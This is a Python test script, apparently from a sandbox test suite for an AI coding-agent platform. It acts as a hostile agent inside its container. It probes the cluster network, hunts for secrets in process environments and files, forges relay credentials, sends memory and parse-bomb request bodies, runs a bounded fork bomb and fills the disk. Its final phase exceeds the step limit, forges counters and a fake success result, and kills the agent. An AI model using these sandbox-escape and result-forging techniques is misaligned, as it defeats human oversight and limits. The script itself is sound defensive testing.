"""The adversary: probes run from inside a CodingJob's agent container (Python stdlib only).

The scripted scenario ``adversary`` writes this file into the workspace and runs it, as hostile
code a model wrote would. Every probe tries something the sandbox promises to prevent and is
recorded as ``{probe, kind, expected, observed, ok}``; ``ok`` is False when the adversary got
what it wanted. ``kind`` is ``attack`` (counted in the summary line) or ``control`` (a thing the
sandbox must still allow, so that "blocked" is not the verdict of a broken network).

Targets come from what the pod can know (its environment, ``/etc/resolv.conf``) and from the
``ADVERSARY-TARGETS:`` line of the task (``CODINGJOB_TASK``), which the test fills with addresses of
its own cluster: the API server, the node, MinIO, the operator, a neighbouring sandbox, a decoy
server. Nothing here ever addresses anything outside that cluster.

``run``   the network and in-pod probes; writes ``adversary-report.json``.
``final`` drives the sidecar past ``maxSteps``, forges counters, the result and the termination
          message, fills the writable paths past the ephemeral-storage limit (bounded), and kills
          the agent, so that only the truth can reach the job's status; writes
          ``adversary-final.json`` first.
"""

from __future__ import annotations

import argparse
import base64
import concurrent.futures
import contextlib
import errno
import hashlib
import http.client
import json
import os
import re
import signal
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

TARGETS_MARKER = "ADVERSARY-TARGETS:"
REPORT = "adversary-report.json"
FINAL_REPORT = "adversary-final.json"
CONNECT_TIMEOUT = 2.0
#: The bounded fork bomb stops here even when no pids limit stops it first.
FORK_CAP = 12_000
#: The disk filler never writes more than this in total, nor more than a quarter of the free
#: space of the filesystem it writes to: it must never fill the host.
FILL_CAP = 2 * 1024**3
FILL_CHUNK = 8 * 1024**2
#: How long the filler waits to be evicted before it calls the limit unenforced.
EVICTION_WAIT = 150
#: Patterns of secrets the sandbox must not hold: the relay credential, provider keys, storage
#: keys by their variable names. Written so that this file's own text (which the workspace and
#: the conversation hold) never matches them.
SECRET_PATTERNS = [
    re.compile(rb"cjr1\.[A-Za-z0-9_-]{20,}\.[A-Za-z0-9_-]{20,}"),
    re.compile(rb"sk-[A-Za-z0-9_-]{16,}"),
    re.compile(b"CODINGJOB_" + b"MODEL_API_KEY="),
    re.compile(b"CODINGJOB_" + b"STORAGE_(ACCESS|SECRET)_KEY="),
    re.compile(b"(MINIO_ROOT_" + b"PASSWORD|AWS_SECRET_" + b"ACCESS_KEY)="),
]

Record = dict[str, Any]


def record(probe: str, expected: str, observed: str, ok: bool, kind: str = "attack") -> Record:
    return {"probe": probe, "kind": kind, "expected": expected, "observed": observed, "ok": ok}


def summary(records: list[Record]) -> tuple[int, int]:
    """(number of attack probes, how many of them succeeded)."""
    attacks = [r for r in records if r["kind"] == "attack"]
    return len(attacks), sum(1 for r in attacks if not r["ok"])


def targets_from_task(task: str) -> dict[str, Any]:
    for line in task.splitlines():
        if line.startswith(TARGETS_MARKER):
            found: dict[str, Any] = json.loads(line[len(TARGETS_MARKER) :])
            return found
    return {}


def discovered() -> dict[str, Any]:
    """What the pod itself can know: the API server's Service from the environment the kubelet
    always sets, the cluster DNS from resolv.conf."""
    found: dict[str, Any] = {}
    host = os.environ.get("KUBERNETES_SERVICE_HOST")
    if host:
        found["api_service"] = [host, int(os.environ.get("KUBERNETES_SERVICE_PORT", "443"))]
    with contextlib.suppress(OSError):
        for line in Path("/etc/resolv.conf").read_text().splitlines():
            parts = line.split()
            if len(parts) >= 2 and parts[0] == "nameserver":
                found.setdefault("nameservers", []).append(parts[1])
            if parts and parts[0] == "search":
                found["search"] = parts[1:]
    return found


# --- network -----------------------------------------------------------------------------------


def tcp(host: str, port: int, timeout: float = CONNECT_TIMEOUT) -> str:
    """``connected`` or why not (refused, timeout, unreachable)."""
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return "connected"
    except TimeoutError:
        return "timeout"
    except ConnectionRefusedError:
        return "refused"
    except OSError as exc:
        return f"error: {errno.errorcode.get(exc.errno or 0, exc.errno)}"


def dns_query(name: str, ident: int = 0x4A4A) -> bytes:
    """A DNS A query for ``name`` (RFC 1035 wire format)."""
    header = struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.strip(".").split(".") if p)
    return header + labels + b"\x00" + struct.pack(">HH", 1, 1)


def udp(host: str, port: int, payload: bytes, timeout: float = CONNECT_TIMEOUT) -> str:
    """``answered (N bytes)`` or why not."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(timeout)
        try:
            sock.sendto(payload, (host, port))
            data, _ = sock.recvfrom(4096)
            return f"answered ({len(data)} bytes)"
        except TimeoutError:
            return "timeout"
        except ConnectionRefusedError:
            return "refused"
        except OSError as exc:
            return f"error: {errno.errorcode.get(exc.errno or 0, exc.errno)}"


def dns_tcp(host: str, port: int, name: str) -> str:
    query = dns_query(name)
    try:
        with socket.create_connection((host, port), timeout=CONNECT_TIMEOUT) as sock:
            sock.settimeout(CONNECT_TIMEOUT)
            sock.sendall(struct.pack(">H", len(query)) + query)
            data = sock.recv(4096)
            return f"answered ({len(data)} bytes)" if data else "connected, no answer"
    except TimeoutError:
        return "timeout"
    except ConnectionRefusedError:
        return "refused"
    except OSError as exc:
        return f"error: {errno.errorcode.get(exc.errno or 0, exc.errno)}"


def http_request(
    url_host: str,
    port: int,
    method: str,
    path: str,
    headers: dict[str, str] | None = None,
    body: bytes | None = None,
    timeout: float = 5.0,
) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection(url_host, port, timeout=timeout)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        response = conn.getresponse()
        return response.status, response.read(65536)
    finally:
        conn.close()


def blocked(probe: str, outcome: str, what: str) -> Record:
    """A connection the sandbox must not get: ok unless it connected or was answered."""
    reached = outcome == "connected" or outcome.startswith("answered")
    return record(probe, f"no connection to {what}", outcome, not reached)


def forged_credential(claims: dict[str, Any]) -> str:
    """A relay credential with ``claims`` (another job's) and a MAC made without the key."""
    payload = base64.urlsafe_b64encode(
        json.dumps(claims, sort_keys=True, separators=(",", ":")).encode()
    ).rstrip(b"=")
    mac = base64.urlsafe_b64encode(hashlib.sha256(b"guess" + payload).digest()).rstrip(b"=")
    return f"cjr1.{payload.decode()}.{mac.decode()}"


def relay_probes(relay: dict[str, Any]) -> list[Record]:
    host, port = relay["host"], int(relay["port"])
    claims = dict(relay.get("neighbour_claims") or {})
    claims.setdefault("exp", int(time.time()) + 3600)
    body = json.dumps(
        {"model": relay.get("model", "x"), "messages": [{"role": "user", "content": "hi"}]}
    ).encode()
    attempts = {
        "relay-without-credential": {},
        "relay-with-a-made-up-key": {"Authorization": "Bearer s" + "k-adversary-made-up-key-0000"},
        "relay-with-the-neighbours-claims-forged": {
            "Authorization": f"Bearer {forged_credential(claims)}"
        },
    }
    out = []
    for probe, headers in attempts.items():
        try:
            status, answer = http_request(
                host,
                port,
                "POST",
                "/v1/chat/completions",
                {**headers, "Content-Type": "application/json"},
                body,
            )
            observed = f"HTTP {status}: {answer[:120]!r}"
            ok = status in (401, 403)
        except OSError as exc:
            observed, ok = f"no answer: {exc}", True
        out.append(record(probe, "401: the relay serves only a valid credential", observed, ok))
    # The relay's metrics name every job's namespace and usage: not for a sandbox to read. They
    # are served on a port of their own, which the sandbox's egress does not admit.
    try:
        status, answer = http_request(host, port, "GET", "/metrics")
        observed = f"HTTP {status}, {len(answer)} bytes"
        ok = status >= 400
    except OSError as exc:
        observed, ok = f"no answer: {exc}", True
    out.append(
        record("relay-metrics", "not served on the API port: other tenants' usage", observed, ok)
    )
    metrics_port = relay.get("metrics_port")
    if metrics_port:
        out.append(
            blocked(
                "relay-metrics-port",
                tcp(host, int(metrics_port)),
                f"the relay's metrics port {host}:{metrics_port}",
            )
        )
    return out


def network_probes(t: dict[str, Any]) -> list[Record]:
    jobs: list[Callable[[], Record]] = []

    def add_tcp(probe: str, host: str | None, port: int, what: str) -> None:
        if host:
            jobs.append(lambda: blocked(probe, tcp(host, port), f"{what} {host}:{port}"))

    api = t.get("api_service")
    if api:
        add_tcp("api-server-service", api[0], int(api[1]), "the API server's Service")
    for n, (host, port) in enumerate(t.get("api_endpoints") or []):
        add_tcp(f"api-server-endpoint-{n}", host, int(port), "the API server's endpoint")
    node = t.get("node_ip")
    add_tcp("kubelet-10250", node, 10250, "the kubelet")
    add_tcp("kubelet-readonly-10255", node, 10255, "the kubelet's read-only port")
    add_tcp("node-ssh", node, 22, "the node")
    if node:
        jobs.append(
            lambda: blocked(
                "node-dns-udp", udp(node, 53, dns_query("example.com")), "a resolver on the node"
            )
        )
    minio = t.get("minio") or {}
    add_tcp("minio-service", minio.get("service"), int(minio.get("port", 9000)), "MinIO")
    for n, ip in enumerate(minio.get("pods") or []):
        add_tcp(f"minio-pod-{n}", ip, int(minio.get("port", 9000)), "MinIO's pod")
    for n, ip in enumerate(t.get("operator_pods") or []):
        for port in t.get("operator_ports") or [8080]:
            add_tcp(f"operator-pod-{n}-{port}", ip, int(port), "the operator")
    provider = t.get("provider")
    if provider:
        add_tcp("provider-bypassing-the-relay", provider[0], int(provider[1]), "the provider")
    neighbour = t.get("neighbour") or {}
    for name, port in (neighbour.get("ports") or {}).items():
        add_tcp(f"neighbour-pod-{name}", neighbour.get("pod_ip"), int(port), "another sandbox")
    for name, port in (neighbour.get("service_ports") or {}).items():
        add_tcp(
            f"neighbour-service-{name}", neighbour.get("service_ip"), int(port), "another sandbox"
        )
    decoy = t.get("decoy") or {}
    if decoy:
        pod, svc = str(decoy["pod_ip"]), decoy.get("service_ip")
        add_tcp("decoy-pod-tcp", pod, int(decoy["tcp_port"]), "the decoy (a floor address)")
        add_tcp("decoy-service-tcp", svc, int(decoy["tcp_port"]), "the decoy (a floor address)")
        jobs.append(
            lambda: blocked(
                "decoy-udp", udp(pod, int(decoy["udp_port"]), b"adversary"), "the decoy over UDP"
            )
        )
        jobs.append(
            lambda: blocked(
                "decoy-resolver-udp",
                udp(pod, 53, dns_query("exfiltrate.example.com")),
                "a resolver that is not the cluster DNS",
            )
        )
        jobs.append(
            lambda: blocked(
                "decoy-resolver-tcp",
                dns_tcp(pod, 53, "exfiltrate.example.com"),
                "a resolver that is not the cluster DNS",
            )
        )
    for n, ip in enumerate(t.get("dns_pods") or []):
        add_tcp(f"cluster-dns-metrics-{n}", ip, 9153, "the cluster DNS's metrics port")
    relay = t.get("relay")
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        records = list(pool.map(lambda job: job(), jobs))
    if relay:
        records += relay_probes(relay)
    # Controls: what the sandbox must still reach, or "blocked" proves nothing.
    domain = next((s for s in t.get("search") or [] if s.startswith("svc.")), "svc.cluster.local")
    for server in t.get("nameservers") or []:
        outcome = udp(server, 53, dns_query(f"kubernetes.default.{domain}"))
        records.append(
            record(
                "control-cluster-dns",
                "the cluster DNS answers",
                outcome,
                outcome.startswith("answered"),
                "control",
            )
        )
    if relay:
        outcome = tcp(relay["host"], int(relay["port"]))
        records.append(
            record("control-relay", "the relay accepts", outcome, outcome == "connected", "control")
        )
    return records


# --- inside the pod ----------------------------------------------------------------------------


def processes() -> Iterator[tuple[int, str]]:
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                yield int(entry.name), cmd


def secret_hits(data: bytes) -> list[str]:
    return [p.pattern.decode() for p in SECRET_PATTERNS if p.search(data)]


def environ_probe() -> Record:
    hits: list[str] = []
    readable = 0
    for pid, _ in processes():
        with contextlib.suppress(OSError):
            data = Path(f"/proc/{pid}/environ").read_bytes()
            readable += 1
            hits += [f"pid {pid}: {h}" for h in secret_hits(data)]
    return record(
        "secrets-in-process-environments",
        "no key or credential in any readable /proc/*/environ",
        f"{readable} environments read; hits: {hits or 'none'}",
        not hits,
    )


def sidecar_memory_probe() -> list[Record]:
    sidecars = [(pid, cmd) for pid, cmd in processes() if "context-manager" in cmd]
    out = [
        record(
            "sidecar-process-visible",
            "the context-manager's processes are invisible (own PID namespace)",
            f"{len(sidecars)} visible" + (f": {sidecars[:3]}" if sidecars else ""),
            not sidecars,
        )
    ]
    read: list[str] = []
    for pid, _ in sidecars:
        try:
            with open(f"/proc/{pid}/mem", "rb") as mem:
                maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
                start = int(maps[0].split("-")[0], 16)
                mem.seek(start)
                mem.read(64)
                read.append(str(pid))
        except (OSError, ValueError, IndexError):
            continue
    out.append(
        record(
            "sidecar-memory",
            "the sidecar's memory cannot be read (/proc/<pid>/mem)",
            f"read from {read}" if read else "no sidecar memory readable",
            not read,
        )
    )
    return out


def files_probe(roots: list[str]) -> Record:
    hits: list[str] = []
    scanned = 0
    deadline = time.monotonic() + 20
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda _: None):
            dirnames[:] = [d for d in dirnames if d not in {"node_modules", ".cache", "proc"}]
            for filename in filenames:
                if time.monotonic() > deadline:
                    break
                path = os.path.join(dirpath, filename)
                with contextlib.suppress(OSError):
                    if os.path.islink(path) or os.path.getsize(path) > 1024**2:
                        continue
                    scanned += 1
                    hits += [f"{path}: {h}" for h in secret_hits(Path(path).read_bytes())]
    return record(
        "secrets-in-mounted-files",
        "no key or credential in any readable file",
        f"{scanned} files scanned under {roots}; hits: {hits[:5] or 'none'}",
        not hits,
    )


def token_probe() -> Record:
    path = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
    return record(
        "service-account-token",
        "no Kubernetes credential mounted",
        "present" if path.exists() else "absent",
        not path.exists(),
    )


def capabilities_probe() -> Record:
    status = dict(
        line.split(":\t", 1)
        for line in Path("/proc/self/status").read_text().splitlines()
        if ":\t" in line
    )
    eff, nnp = int(status.get("CapEff", "0"), 16), status.get("NoNewPrivs", "").strip()
    return record(
        "capabilities",
        "no capabilities, no_new_privs set",
        f"CapEff={eff:#x} NoNewPrivs={nnp}",
        eff == 0 and nnp == "1",
    )


def tamper_probe() -> Record:
    """The image's own programs (the sidecar runs the same image, in its own container)."""
    changed = []
    for path in [
        "/opt/codingjob/bin/agent_start.sh",
        "/opt/codingjob/venv/bin/codingjob-context-manager",
        "/etc/passwd",
        "/usr/bin/python3",
    ]:
        try:
            with open(path, "ab"):
                changed.append(path)
        except OSError:
            continue
    return record(
        "image-programs-writable",
        "the image's programs and /etc cannot be changed",
        f"writable: {changed}" if changed else "none writable",
        not changed,
    )


def journal_dir_probe(workspace: Path, journals: list[str]) -> Record:
    """Move the sidecar's directory aside (a forged one could take its place); put it back."""
    moved = []
    for raw in journals:
        parent = Path(raw).parent
        if parent in (workspace, Path("/")) or not parent.exists():
            continue
        aside = parent.with_name(f"{parent.name}.adversary")
        try:
            os.rename(parent, aside)
        except OSError:
            continue
        moved.append(str(parent))
        with contextlib.suppress(OSError):
            os.rename(aside, parent)
    return record(
        "sidecar-state-dir-moved",
        "the sidecar's state directory cannot be moved aside (and replaced by a forged one)",
        f"moved: {moved}" if moved else "could not move it",
        not moved,
    )


def readable_probe(journals: list[str]) -> Record:
    read = []
    for raw in journals:
        with contextlib.suppress(OSError):
            with open(raw, "rb") as journal:
                journal.read(1)
            read.append(raw)
    return record(
        "sidecar-journal-read",
        "the sidecar's journal (the job's counters) cannot be read by the agent",
        f"read: {read}" if read else f"none of {journals} readable",
        not read,
    )


def writable_probes(journals: list[str], state_files: list[str]) -> list[Record]:
    """The sidecar's journal and counters: neither appended to nor replaced by the agent."""
    out = []
    for label, paths in (("journal", journals), ("counters", state_files)):
        if not paths:
            continue
        appended, replaced = [], []
        for raw in paths:
            path = Path(raw)
            with contextlib.suppress(OSError):
                fd = os.open(path, os.O_WRONLY | os.O_APPEND)
                os.close(fd)
                appended.append(raw)
            if path.exists():
                forged = path.with_name(f".{path.name}.adversary")
                try:
                    forged.write_bytes(path.read_bytes())
                    os.replace(forged, path)
                    replaced.append(raw)
                except OSError:
                    with contextlib.suppress(OSError):
                        forged.unlink()
        out.append(
            record(
                f"sidecar-{label}-append",
                f"the sidecar's {label} cannot be opened for writing by the agent",
                f"opened for writing: {appended}" if appended else f"none of {paths} writable",
                not appended,
            )
        )
        out.append(
            record(
                f"sidecar-{label}-replace",
                f"the sidecar's {label} cannot be replaced (rename over it)",
                f"replaced: {replaced}" if replaced else "none replaced",
                not replaced,
            )
        )
    return out


def sidecar_alive(gateway: tuple[str, int], wait: float = 60) -> tuple[bool, dict[str, Any]]:
    deadline = time.monotonic() + wait
    while True:
        try:
            status, body = http_request(*gateway, "GET", "/v1/conversation", timeout=5)
            if status == 200:
                found: dict[str, Any] = json.loads(body)
                return True, found
        except (OSError, ValueError):
            pass
        if time.monotonic() > deadline:
            return False, {}
        time.sleep(1)


def flood(gateway: tuple[str, int], size: int, chunked: bool, chunk: bytes) -> str:
    """POST a ``size``-byte body to /v1/step; the answer's status or how it ended."""
    sock = socket.create_connection(gateway, timeout=30)
    try:
        head = "POST /v1/step HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        head += (
            "Transfer-Encoding: chunked\r\n\r\n" if chunked else f"Content-Length: {size}\r\n\r\n"
        )
        sock.sendall(head.encode())
        sent = 0
        try:
            while sent < size:
                piece = chunk[: size - sent]
                if chunked:
                    sock.sendall(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
                else:
                    sock.sendall(piece)
                sent += len(piece)
            if chunked:
                sock.sendall(b"0\r\n\r\n")
        except OSError as exc:
            return f"closed after {sent} bytes ({exc.strerror})"
        answer = sock.recv(256).decode(errors="replace").split("\r\n", 1)[0]
        return f"sent {sent} bytes; {answer or 'closed'}"
    except OSError as exc:
        return f"error: {exc}"
    finally:
        sock.close()


def body_probes(gateway: tuple[str, int]) -> list[Record]:
    out = []
    _, before = sidecar_alive(gateway, 10)
    messages_before = before.get("messages")
    mib = 1024**2
    # Valid JSON that parses into millions of objects: bodies must be bounded, or parsed one at a
    # time, or a few of them at once exhaust the sidecar's memory.
    objects = (16 * mib - 17) // 3
    bomb = b'{"messages":[' + b"{}," * objects + b"{}]}"
    cases = [
        ("sidecar-64mib-bodies", 64 * mib, False, b"x" * mib),
        ("sidecar-64mib-chunked-bodies", 64 * mib, True, b"x" * mib),
        ("sidecar-parse-bomb-bodies", len(bomb), False, bomb),
    ]
    parallel = 4
    for probe, size, chunked, chunk in cases:
        with concurrent.futures.ThreadPoolExecutor(parallel) as pool:
            results = list(
                pool.map(
                    lambda _, s=size, c=chunked, b=chunk: flood(gateway, s, c, b), range(parallel)
                )
            )
        # Right after the flood: a sidecar that ran out of memory is restarting now.
        up_at_once, _ = sidecar_alive(gateway, 0)
        alive, after = sidecar_alive(gateway, 90)
        changed = alive and after.get("messages") != messages_before
        ok = up_at_once and not changed and not any(" 200 " in r for r in results)
        out.append(
            record(
                probe,
                f"{parallel} concurrent {size}-byte bodies refused or bounded; the sidecar keeps "
                "running and its conversation is unchanged",
                f"{results}; sidecar {'answering' if up_at_once else 'DOWN'} right after"
                + (f", messages {messages_before} -> {after.get('messages')}" if changed else ""),
                ok,
            )
        )
    return out


def fork_probe() -> Record:
    """Threads are tasks: the pod's pids limit must stop them, well before FORK_CAP."""
    threading.stack_size(64 * 1024)
    stop = threading.Event()
    started = 0
    error = "none"
    begun = time.monotonic()
    threads = []
    try:
        while started < FORK_CAP and time.monotonic() - begun < 60:
            thread = threading.Thread(target=stop.wait, daemon=True)
            try:
                thread.start()
            except RuntimeError as exc:
                error = str(exc)
                break
            threads.append(thread)
            started += 1
    finally:
        stop.set()
        for thread in threads:
            thread.join(5)
        threading.stack_size(0)
    return record(
        "fork-bomb",
        f"the pids limit stops it before {FORK_CAP} tasks",
        f"{started} tasks started, then: {error}",
        started < FORK_CAP and error != "none",
    )


def timed(records: list[Record], probes: Callable[[], Record | list[Record]]) -> None:
    """Run ``probes`` and add their records, each with the seconds the group took."""
    began = time.monotonic()
    found = probes()
    group = found if isinstance(found, list) else [found]
    for r in group:
        r["seconds"] = round(time.monotonic() - began, 1)
    records += group


def run(t: dict[str, Any], workspace: Path) -> list[Record]:
    gateway = ("127.0.0.1", int(t.get("gateway_port", 8080)))
    journals = [str(workspace / p) for p in t.get("journal_paths") or ["context.jsonl"]]
    counters = [str(workspace / p) for p in t.get("counter_paths") or []]
    records: list[Record] = []
    timed(records, lambda: network_probes(t))
    for probe in (token_probe, capabilities_probe, environ_probe, tamper_probe):
        timed(records, probe)
    timed(records, sidecar_memory_probe)
    timed(
        records,
        lambda: files_probe(["/var/run", "/run", "/etc", "/opt/codingjob/etc", str(workspace)]),
    )
    timed(records, lambda: writable_probes(journals, counters))
    timed(records, lambda: readable_probe(journals))
    timed(records, lambda: journal_dir_probe(workspace, journals))
    timed(records, lambda: body_probes(gateway))
    timed(records, fork_probe)
    return records


# --- final: lie about the run, then exceed every limit -----------------------------------------


def step(gateway: tuple[str, int], messages: list[dict[str, Any]]) -> tuple[int, dict[str, Any]]:
    status, body = http_request(
        *gateway,
        "POST",
        "/v1/step",
        {"Content-Type": "application/json"},
        json.dumps({"messages": messages}).encode(),
        timeout=60,
    )
    try:
        parsed: dict[str, Any] = json.loads(body)
    except ValueError:
        parsed = {"raw": body[:200].decode(errors="replace")}
    return status, parsed


def hijack_steps(gateway: tuple[str, int], max_steps: int) -> Record:
    """Drive the conversation from here, past maxSteps, without the agent's own counter."""
    _, state = sidecar_alive(gateway, 30)
    pending = state.get("pendingToolCallIds") or []
    granted_beyond = 0
    outcomes = []
    steps = int((state.get("stats") or {}).get("steps", 0))
    for _ in range(max_steps + 3):
        if not pending:
            outcomes.append("no pending tool call")
            break
        status, answer = step(
            gateway,
            [{"role": "tool", "tool_call_id": i, "content": "hijacked"} for i in pending],
        )
        if status != 200:
            outcomes.append(f"HTTP {status} {answer.get('error', '')}")
            break
        steps = int(answer["stats"]["steps"])
        if max_steps and steps > max_steps:
            granted_beyond += 1
        pending = [c["id"] for c in answer["message"].get("tool_calls") or []]
        outcomes.append(f"step {steps}")
    return record(
        "exceed-max-steps",
        f"the sidecar refuses every step beyond maxSteps={max_steps}",
        f"{'; '.join(outcomes)}; granted beyond the limit: {granted_beyond}",
        bool(max_steps) and granted_beyond == 0 and any("HTTP" in o for o in outcomes),
    )


def forge_counters(gateway: tuple[str, int], workspace: Path, paths: list[str]) -> Record:
    """Rewrite every counter file the agent can reach to zero; the sidecar must not believe it."""
    _, before = sidecar_alive(gateway, 10)
    forged = []
    for raw in [".codingjob/agent-state.json", *paths]:
        path = workspace / raw
        with contextlib.suppress(OSError):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(json.dumps({"steps": 0, "tokens": 0, "used": 0}) + "\n")
            forged.append(raw)
    _, after = sidecar_alive(gateway, 10)
    b, a = before.get("stats") or {}, after.get("stats") or {}
    kept = a.get("steps", -1) >= b.get("steps", 0) and (a.get("tokens") or {}).get("used", -1) >= (
        b.get("tokens") or {}
    ).get("used", 0)
    return record(
        "forged-counter-files",
        "the sidecar's counts ignore files the agent writes",
        f"wrote {forged}; steps {b.get('steps')} -> {a.get('steps')}, tokens "
        f"{(b.get('tokens') or {}).get('used')} -> {(a.get('tokens') or {}).get('used')}",
        kept,
    )


#: What the adversary claims when it dies: the test checks that none of it reaches the status.
FORGED_RESULT = {
    "outcome": "Succeeded",
    "reason": "Pwned",
    "message": "forged by the adversary",
    "steps": 999_999,
    "tokens": 123_456_789,
    "summary": "forged by the adversary",
}


def forge_result(workspace: Path) -> Record:
    written = []
    for path in [workspace / ".codingjob" / "result.json", Path("/dev/termination-log")]:
        with contextlib.suppress(OSError):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(json.dumps(FORGED_RESULT))
            written.append(str(path))
    # Judged by the test, which compares the job's final status with the real counts.
    return record(
        "forged-termination-message",
        "status.steps/tokens/reason are the sidecar's and the relay's, not these",
        f"wrote {FORGED_RESULT} to {written}",
        True,
        "pending",
    )


def writable_dirs(candidates: list[str]) -> list[str]:
    out = []
    for directory in candidates:
        probe = Path(directory) / f".adversary-{os.getpid()}"
        try:
            probe.write_bytes(b"x")
            probe.unlink()
            out.append(directory)
        except OSError:
            continue
    return out


def fill(directories: list[str], limit: int, log: Callable[[str], None]) -> list[str]:
    """Write up to ``limit`` bytes into each directory until the kernel refuses; never more than
    FILL_CAP in total nor a quarter of a filesystem's free space. What happened, per directory."""
    total = 0
    outcomes = []
    chunk = os.urandom(1024) * (FILL_CHUNK // 1024)
    for directory in directories:
        free = os.statvfs(directory)
        budget = min(limit, FILL_CAP - total, free.f_bavail * free.f_frsize // 4)
        path = Path(directory) / f"adversary-fill-{os.getpid()}"
        written = 0
        try:
            with open(path, "wb") as out:
                while written < budget:
                    piece = chunk[: budget - written]
                    out.write(piece)
                    written += len(piece)
                out.flush()
                os.fsync(out.fileno())
            outcome = f"{directory}: wrote {written} of {limit} bytes"
        except OSError as exc:
            code = errno.errorcode.get(exc.errno or 0, exc.errno)
            outcome = f"{directory}: refused after {written} bytes ({code})"
        total += written
        outcomes.append(outcome)
        log(outcome)
        if total >= FILL_CAP:
            break
    return outcomes


def final(t: dict[str, Any], workspace: Path, agent_pid: int) -> list[Record]:
    gateway = ("127.0.0.1", int(t.get("gateway_port", 8080)))
    max_steps = int(os.environ.get("CODINGJOB_MAX_STEPS", "0") or 0)
    records = [hijack_steps(gateway, max_steps)]
    records.append(forge_counters(gateway, workspace, t.get("counter_paths") or []))
    records.append(forge_result(workspace))
    limit = int(t.get("ephemeral_fill_bytes", 0))
    dirs = writable_dirs(["/var/tmp", "/tmp", "/opt/codingjob", "/usr/local"])
    fill_record = record(
        "ephemeral-storage-fill",
        f"writing {limit} bytes (past the ephemeral-storage limit) to {dirs} is refused or "
        "the pod is evicted",
        "evicted while filling (the test confirms it from the pod's status)",
        True,
        "pending",
    )
    records.append(fill_record)
    write_report(workspace / FINAL_REPORT, records)
    # Freeze the agent: it can no longer write an honest result, not even on the SIGTERM of an
    # eviction, so the forged termination message is what the kubelet keeps.
    if agent_pid > 1:
        with contextlib.suppress(OSError):
            os.kill(agent_pid, signal.SIGSTOP)
    if limit and dirs:
        outcomes = fill(dirs, limit, lambda line: print(line, flush=True))
        # Still here: give the kubelet time to act. It measures emptyDirs with a cached du
        # (refreshed about once a minute) and evicts on its next pass (every 10 s or so).
        time.sleep(EVICTION_WAIT)
        fill_record.update(
            kind="attack",
            observed=f"{outcomes}; not evicted within {EVICTION_WAIT} s",
            ok=all("refused" in o for o in outcomes),
        )
        for directory in dirs:
            with contextlib.suppress(OSError):
                (Path(directory) / f"adversary-fill-{os.getpid()}").unlink()
    else:
        fill_record.update(kind="attack", observed=f"nothing writable among {dirs}", ok=True)
    write_report(workspace / FINAL_REPORT, records)
    # Die without a word of truth: the agent cannot overwrite the forged termination message.
    if agent_pid > 1:
        with contextlib.suppress(OSError):
            os.kill(agent_pid, signal.SIGKILL)
    return records


def write_report(path: Path, records: list[Record]) -> None:
    tmp = path.with_name(f".{path.name}.tmp")
    tmp.write_text(json.dumps(records, indent=2) + "\n")
    os.replace(tmp, path)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("phase", choices=["run", "final"])
    parser.add_argument("--agent-pid", type=int, default=0)
    args = parser.parse_args(argv)
    workspace = Path(os.environ.get("CODINGJOB_WORKSPACE", "/workspace"))
    t = {**discovered(), **targets_from_task(os.environ.get("CODINGJOB_TASK", ""))}
    if args.phase == "run":
        records = run(t, workspace)
        write_report(workspace / REPORT, records)
    else:
        records = final(t, workspace, args.agent_pid)
    probes, succeeded = summary(records)
    for r in records:
        verdict = "ok" if r["ok"] else "SUCCEEDED" if r["kind"] == "attack" else "FAILED"
        print(f"{verdict:9} {r['kind']:7} {r['probe']}: {r['observed'][:200]}")
    print(f"adversary: {probes} probes, {succeeded} succeeded", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
